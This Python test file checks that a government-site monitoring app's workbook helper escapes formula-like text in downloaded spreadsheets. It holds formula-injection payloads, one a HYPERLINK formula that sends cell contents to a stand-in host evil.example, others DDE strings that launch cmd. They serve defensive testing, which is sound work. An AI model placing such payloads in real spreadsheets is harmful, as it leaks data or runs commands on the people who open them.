"""Crawled or reported text never becomes a formula in a downloaded workbook:
every workbook is written through gongkai.core.xlsx, which escapes text that
starts like a formula and leaves numbers as numbers."""

import datetime as dt
import io
import re
from dataclasses import dataclass
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from gongkai.core import xlsx

PACKAGE = Path(__file__).resolve().parents[2] / "gongkai"

DANGEROUS = ['=HYPERLINK("http://evil.example/?"&A1,"点此查看")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
             "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1"]


@pytest.mark.parametrize("text", DANGEROUS)
def test_text_that_starts_like_a_formula_gets_an_apostrophe(text):
    assert xlsx.cell_value(text) == "'" + text


@pytest.mark.parametrize("value", [0, 7, -3, 2.5, -0.25, Decimal("-1.50"), True, None, dt.date(2024, 3, 1),
                                   dt.datetime(2024, 3, 1, 9, 30), "-3", "+5.5", "-.5", "", "西昌市人民政府",
                                   "http://x/-a", "a=b", "中华人民共合国 - 错别字", "（一）=", "＝全角"])
def test_numbers_dates_and_ordinary_text_are_unchanged(value):
    assert xlsx.cell_value(value) == value and type(xlsx.cell_value(value)) is type(value)


def test_characters_a_workbook_cannot_hold_are_dropped_before_the_check():
    assert xlsx.cell_value("a\x00b\x0bc\x1f") == "abc"
    assert xlsx.cell_value("\x01=1+1") == "'=1+1"
    assert xlsx.cell_value("第一行\n第二行\t完") == "第一行\n第二行\t完"


def test_a_sheet_holds_no_formula_and_keeps_its_numbers():
    book = xlsx.workbook()
    xlsx.sheet(book, "发现", ["=标题", "数"], [[text, n] for n, text in enumerate(DANGEROUS, start=-3)] + [["a\x07b", 1.5]],
               widths=[40, 8], number_columns=[2])
    sheet = load_workbook(io.BytesIO(xlsx.to_bytes(book)))["发现"]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    values = list(sheet.values)
    assert values[0] == ("'=标题", "数")
    assert [row[0] for row in values[1:-1]] == ["'" + text for text in DANGEROUS]
    assert [row[1] for row in values[1:-1]] == list(range(-3, len(DANGEROUS) - 3))
    assert values[-1] == ("ab", 1.5)


@dataclass
class _F:
    kind: str
    severity: str
    evidence: str
    context: str
    url: str


def test_the_monitoring_workbook_escapes_crawled_text(org_tree, make_user, client):
    """End to end: what a crawled page said reaches the office's workbook as text."""
    from django.urls import reverse

    from gongkai.monitor import services
    from gongkai.monitor.models import Site

    site = Site.objects.create(name="=西昌市门户网站", start_url="http://127.0.0.1:9/", organisation=org_tree["county"])
    services.record_run(site, [_F("hidden_link", "serious", DANGEROUS[0], "@SUM(1+1)", "http://x/2"),
                               _F("injected_text", "serious", "-AG真人娱乐", "+86 博彩", "http://x/3")], pages=2)
    client.force_login(make_user("office", (org_tree["county"], "office_admin")))
    book = load_workbook(io.BytesIO(client.get(reverse("monitor:report_xlsx")).content))
    sheet = book["监测发现"]
    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    rows = {row[6]: row for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert set(rows) == {"'" + DANGEROUS[0], "'-AG真人娱乐"}
    assert rows["'" + DANGEROUS[0]][0] == "'=西昌市门户网站" and rows["'" + DANGEROUS[0]][7] == "'@SUM(1+1)"
    assert rows["'-AG真人娱乐"][7] == "'+86 博彩"


def test_no_module_writes_a_workbook_around_the_escape():
    """openpyxl is imported by gongkai.core.xlsx (every download) and by the
    attachment reader, which only reads workbooks and masks personal data
    inside a staff member's own upload (it writes no text of its own). A new
    writer must go through gongkai.core.xlsx.sheet."""
    importers = {str(path.relative_to(PACKAGE)) for path in PACKAGE.rglob("*.py")
                 if re.search(r"^\s*(import openpyxl|from openpyxl)", path.read_text(encoding="utf-8"), re.MULTILINE)}
    assert importers == {"core/xlsx.py", "publishing/attachment_text.py"}
    reader = (PACKAGE / "publishing" / "attachment_text.py").read_text(encoding="utf-8")
    assert "Workbook(" not in reader and "create_sheet" not in reader and ".append(" not in reader.split("# --- .xlsx")[-1]
